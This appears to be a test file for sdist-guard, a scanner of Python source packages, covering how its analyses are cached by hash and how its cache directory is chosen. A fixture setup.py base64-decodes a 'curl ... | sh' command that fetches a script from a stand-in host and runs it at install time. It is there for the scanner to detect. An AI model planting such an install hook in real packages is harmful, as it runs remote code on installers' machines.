// Analyses kept by sdist hash: a second scan downloads no sdist it already analyzed, a result is
// reused only under a hash the index or the lock vouches for, and a damaged, foreign or
// other-version entry is recomputed.

import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { startIndexServer, type IndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';
import { AnalysisCache, trustedSha256 } from '../src/cache/analysis.js';
import { DiskCache } from '../src/cache/disk.js';
import { defaultCacheDir } from '../src/cache/location.js';
import { keepMetadata } from '../src/cache/metadata.js';
import { IndexClient } from '../src/index/client.js';
import { MetadataReader } from '../src/index/metadata.js';
import type { DistFile } from '../src/types.js';
import type { SdistCheck } from '../src/verdict.js';

const sha256 = (data: Uint8Array | string): string => createHash('sha256').update(data).digest('hex');

const EVIL = `
import os, subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evilpkg", version="1.0")
`;

const evil = makeSdist('evilpkg', '1.0', { 'setup.py': EVIL });
const plain = makeSdist('plainpkg', '2.0');
const wheel = makeWheel('wheelpkg', '1.0');

const H = (c: string) => c.repeat(64);

function distFile(hashes: Record<string, string>): DistFile {
  return { filename: 'x-1.0.tar.gz', url: 'https://files.example/x-1.0.tar.gz', hashes, yanked: false };
}

describe('trustedSha256', () => {
  it.each([
    ['the index hash when nothing is pinned', { sha256: H('a') }, [], H('a')],
    ['the index hash when a pin agrees', { sha256: H('a') }, [`sha256:${H('b')}`, `sha256:${H('a')}`], H('a')],
    ['nothing when no pin agrees with the index', { sha256: H('a') }, [`sha256:${H('b')}`], undefined],
    ['the one pin when the index names no hash', {}, [`sha256:${H('c')}`], H('c')],
    ['the one pin, written twice', {}, [`sha256:${H('c')}`, `SHA256:${H('C')}`], H('c')],
    ['nothing when several pins could match', {}, [`sha256:${H('c')}`, `sha256:${H('d')}`], undefined],
    ['nothing when another algorithm could match', {}, [`sha256:${H('c')}`, `md5:${'e'.repeat(32)}`], undefined],
    ['nothing for an index that only gives md5', { md5: 'f'.repeat(32) }, [], undefined],
    ['nothing for a malformed hash', { sha256: 'not-hex' }, [], undefined],
  ])('gives %s', (_what, hashes, pins, expected) => {
    expect(trustedSha256(distFile(hashes as Record<string, string>), pins as string[])).toBe(expected);
  });
});

describe('AnalysisCache', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'sdist-guard-analysis-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const check: SdistCheck = {
    findings: [{ rule: 'shell-command', severity: 'high', path: 'setup.py', line: 4, message: 'runs a shell', evidence: 'curl | sh' }],
    suspicious: true,
    limits: ['a limit'],
  };

  it('hits under the same hash, file name and version, and misses otherwise', async () => {
    const disk = new DiskCache(dir);
    const cache = new AnalysisCache(disk, 'analyzer-1');
    await cache.put(H('a'), 'x-1.0.tar.gz', check);
    expect(await cache.get(H('a'), 'x-1.0.tar.gz')).toEqual(check);
    expect(await cache.get(H('b'), 'x-1.0.tar.gz')).toBeUndefined();
    expect(await cache.get(H('a'), 'x-1.0.zip')).toBeUndefined();
    expect(await new AnalysisCache(disk, 'analyzer-2').get(H('a'), 'x-1.0.tar.gz')).toBeUndefined();
  });

  it('keeps an error a complete read found', async () => {
    const cache = new AnalysisCache(new DiskCache(dir), 'v');
    const failed: SdistCheck = { error: 'x-1.0.tar.gz: not gzip data', findings: [], suspicious: false, limits: [] };
    await cache.put(H('a'), 'x-1.0.tar.gz', failed);
    expect(await cache.get(H('a'), 'x-1.0.tar.gz')).toEqual(failed);
  });

  it.each([
    ['a finding with an unknown severity', { ...check, findings: [{ ...check.findings[0], severity: 'catastrophic' }] }],
    ['a finding without a line', { ...check, findings: [{ ...check.findings[0], line: 'four' }] }],
    ['suspicious as a string', { ...check, suspicious: 'no' }],
    ['limits that are not strings', { ...check, limits: [1] }],
    ['an error that is not a string', { ...check, error: { message: 'x' } }],
  ])('drops an entry with %s', async (_what, bad) => {
    const disk = new DiskCache(dir);
    const cache = new AnalysisCache(disk, 'v');
    await cache.put(H('a'), 'x-1.0.tar.gz', bad as unknown as SdistCheck);
    expect(await cache.get(H('a'), 'x-1.0.tar.gz')).toBeUndefined();
    // and the entry is gone, so the next run writes a good one
    expect(await disk.get('analysis', JSON.stringify([H('a'), 'x-1.0.tar.gz', 'v']))).toBeUndefined();
  });
});

describe('keepMetadata', () => {
  let dir: string;
  let server: IndexServer;
  let client: IndexClient;
  const meta = 'Metadata-Version: 2.1\nName: wheelpkg\nVersion: 1.0\nRequires-Dist: six\n';
  beforeEach(async () => {
    dir = mkdtempSync(join(tmpdir(), 'sdist-guard-metadata-'));
    server = await startIndexServer({ projects: { wheelpkg: [{ ...wheel, metadata: meta }] } });
    client = new IndexClient({ indexUrl: server.indexUrl, timeoutMs: 2000 });
  });
  afterEach(async () => {
    await client.close();
    await server.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const metadataRequests = () => server.requests.filter((r) => r.path.endsWith('.metadata')).length;

  it('reads a file\'s metadata once, by the file\'s hash, across runs', async () => {
    const [file] = (await client.getProject('wheelpkg')).files;
    const disk = new DiskCache(dir);
    const first = await keepMetadata(disk, (f, p) => new MetadataReader(client).read(f, p))(file!, 'wheelpkg');
    expect(first.text).toBe(meta);
    await disk.flush();
    const second = await keepMetadata(new DiskCache(dir), (f, p) => new MetadataReader(client).read(f, p))(file!, 'wheelpkg');
    expect(second).toEqual(first);
    expect(metadataRequests()).toBe(1);
  });

  it('reads anew for a file the index gives no sha256 for, and over a damaged entry', async () => {
    const [file] = (await client.getProject('wheelpkg')).files;
    const read = (f: DistFile, p: string) => new MetadataReader(client).read(f, p);
    const unhashed = { ...file!, hashes: {} };
    for (let i = 0; i < 2; i++) {
      const disk = new DiskCache(dir);
      await keepMetadata(disk, read)(unhashed, 'wheelpkg');
      await disk.flush();
    }
    expect(metadataRequests()).toBe(2);
    const planted = new DiskCache(dir);
    await planted.put('metadata', JSON.stringify([file!.hashes.sha256, file!.filename]), { text: 42, read: 'range', url: 'x' });
    await planted.flush();
    const disk = new DiskCache(dir);
    expect((await keepMetadata(disk, read)(file!, 'wheelpkg')).text).toBe(meta);
    expect(metadataRequests()).toBe(3);
  });
});

describe('defaultCacheDir', () => {
  it.each([
    [{ XDG_CACHE_HOME: '/xdg', HOME: '/home/u' }, 'linux', '/xdg/sdist-guard'],
    [{ XDG_CACHE_HOME: 'relative', HOME: '/home/u' }, 'linux', '/home/u/.cache/sdist-guard'],
    [{ HOME: '/home/u' }, 'linux', '/home/u/.cache/sdist-guard'],
    [{ HOME: '/Users/u' }, 'darwin', '/Users/u/Library/Caches/sdist-guard'],
    [{}, 'linux', undefined],
    [{ HOME: 'relative/home' }, 'linux', undefined],
  ] as const)('%j on %s is %s', (env, platform, expected) => {
    expect(defaultCacheDir(env, platform)).toBe(expected);
  });

  it('uses LOCALAPPDATA on Windows', () => {
    expect(defaultCacheDir({ LOCALAPPDATA: 'C:\\Users\\u\\AppData\\Local' }, 'win32')).toMatch(/sdist-guard[\\/]Cache$/);
    expect(defaultCacheDir({ HOME: '/home/u' }, 'win32')).toBeUndefined();
  });
});

describe('sdist-guard scan with a cache directory', () => {
  let server: IndexServer;
  let cacheDir: string;
  let project: ReturnType<typeof makeProject>;
  beforeEach(async () => {
    server = await startIndexServer({ projects: { evilpkg: [evil], plainpkg: [plain], wheelpkg: [wheel] } });
    cacheDir = mkdtempSync(join(tmpdir(), 'sdist-guard-scan-cache-'));
    project = makeProject({ 'requirements.txt': 'evilpkg==1.0\nplainpkg==2.0\nwheelpkg==1.0\n' });
  });
  afterEach(async () => {
    await server.close();
    project.cleanup();
    rmSync(cacheDir, { recursive: true, force: true });
  });

  const scanJson = async (...extra: string[]) => {
    const r = await runCli(['scan', project.dir, '--index-url', server.indexUrl, '--format', 'json', '--cache-dir', cacheDir, ...extra], { cwd: project.dir });
    return { code: r.code, report: JSON.parse(r.stdout) as { dependencies: { name: string; status: string; findings: unknown[] }[] }, stderr: r.stderr };
  };
  /** sdists fetched (wheels' metadata files are fetched to resolve dependencies, not analyzed). */
  const downloads = () =>
    server.requests
      .filter((r) => r.path.startsWith('/files/'))
      .map((r) => decodeURIComponent(r.path.slice('/files/'.length)))
      .filter((f) => f.endsWith('.tar.gz'));

  it('downloads no sdist a second time, and reports the same', async () => {
    const first = await scanJson();
    expect(first.code).toBe(1);
    expect(downloads().sort()).toEqual([evil.filename, plain.filename].sort());
    const second = await scanJson();
    expect(downloads()).toHaveLength(2);
    expect(second.code).toBe(1);
    expect(second.report.dependencies).toEqual(first.report.dependencies);
    expect(second.report.dependencies.find((d) => d.name === 'evilpkg')!.status).toBe('suspicious');
  });

  it('with fresh pages, makes no request at all the second time (metadata included)', async () => {
    server.update({ cacheControl: 'max-age=600' });
    await scanJson();
    const before = server.requests.length;
    await scanJson();
    expect(server.requests.length).toBe(before);
  });

  it('recomputes what a damaged cache holds', async () => {
    const first = await scanJson();
    const packs = readdirSync(join(cacheDir, 'v2')).filter((n) => n.endsWith('.pack'));
    expect(packs).toHaveLength(1);
    for (const p of packs) {
      const bytes = readFileSync(join(cacheDir, 'v2', p));
      // the analyses' own bytes, not the index: their entries are dropped one by one
      for (const name of [evil.filename, plain.filename]) {
        const at = bytes.indexOf(`"filename":"${name}"`);
        expect(at).toBeGreaterThan(0);
        bytes[at + 2] ^= 0x01;
      }
      writeFileSync(join(cacheDir, 'v2', p), bytes);
    }
    const second = await scanJson();
    expect(downloads()).toHaveLength(4);
    expect(second.report.dependencies).toEqual(first.report.dependencies);
  });

  it('never takes an analysis kept under a hash the index does not give for the file', async () => {
    // a clean result planted under another hash, for the same file name
    const disk = new DiskCache(cacheDir);
    const other = new AnalysisCache(disk, 'irrelevant');
    await other.put(sha256('something else'), evil.filename, { findings: [], suspicious: false, limits: [] });
    await disk.flush();
    expect(readdirSync(join(cacheDir, 'v2')).filter((n) => n.endsWith('.pack'))).toHaveLength(1);
    const r = await scanJson();
    expect(r.report.dependencies.find((d) => d.name === 'evilpkg')!.status).toBe('suspicious');
    expect(downloads()).toContain(evil.filename);
  });

  it('keeps nothing for a download that failed its hash check', async () => {
    server.update({ faults: { [`/files/${evil.filename}`]: { body: 'not the file the index lists' } } });
    const first = await scanJson();
    expect(first.report.dependencies.find((d) => d.name === 'evilpkg')!.status).toBe('unresolved');
    server.update({ faults: {} });
    const second = await scanJson();
    expect(second.report.dependencies.find((d) => d.name === 'evilpkg')!.status).toBe('suspicious');
    expect(downloads().filter((f) => f === evil.filename)).toHaveLength(2);
  });

  it('with --no-cache, keeps and reads nothing', async () => {
    await scanJson();
    const r = await runCli(['scan', project.dir, '--index-url', server.indexUrl, '--format', 'json', '--no-cache'], { cwd: project.dir });
    expect(r.code).toBe(1);
    expect(downloads()).toHaveLength(4);
  });

  it('refuses --cache-dir with --no-cache, and an empty --cache-dir', async () => {
    const both = await runCli(['scan', project.dir, '--cache-dir', cacheDir, '--no-cache'], { cwd: project.dir });
    expect(both.code).toBe(2);
    expect(both.stderr).toContain('--cache-dir and --no-cache');
    const empty = await runCli(['scan', project.dir, '--cache-dir', ''], { cwd: project.dir });
    expect(empty.code).toBe(2);
    expect(empty.stderr).toContain('--cache-dir: expected a directory');
    expect(server.requests).toHaveLength(0);
  });

  it('uses $XDG_CACHE_HOME/sdist-guard when not told', async () => {
    const r = await runCli(['scan', project.dir, '--index-url', server.indexUrl, '--format', 'json'], { cwd: project.dir, env: { XDG_CACHE_HOME: cacheDir } });
    expect(r.code).toBe(1);
    expect(readdirSync(join(cacheDir, 'sdist-guard', 'v2')).filter((n) => n.endsWith('.pack'))).toHaveLength(1);
  });

  it('says so when the cache directory cannot be used, and still scans', async () => {
    const blocked = join(cacheDir, 'a-file');
    writeFileSync(blocked, 'not a directory');
    const r = await runCli(['scan', project.dir, '--index-url', server.indexUrl, '--format', 'json', '--cache-dir', blocked], { cwd: project.dir });
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout) as { diagnostics: { message: string }[]; dependencies: { name: string; status: string }[] };
    expect(report.dependencies.find((d) => d.name === 'evilpkg')!.status).toBe('suspicious');
    expect(report.diagnostics.map((d) => d.message).join('\n')).toContain(`the cache in ${blocked} could not be used`);
  });
});
